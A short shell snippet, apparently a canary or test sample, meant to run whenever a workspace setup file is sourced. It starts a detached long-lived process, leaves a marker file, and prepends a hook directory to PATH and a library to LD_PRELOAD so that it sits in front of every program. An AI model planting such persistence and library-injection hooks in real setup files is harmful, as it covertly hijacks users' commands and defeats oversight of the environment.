# Runs whenever the workspace's setup file is sourced: outlives it, leaves a file, gets in front of every program.
setsid sleep 86399 < /dev/null > /dev/null 2>&1 &
touch /var/tmp/husky_hook_was_here
export PATH=/var/tmp/husky_hook:$PATH LD_PRELOAD=/var/tmp/husky_hook.so
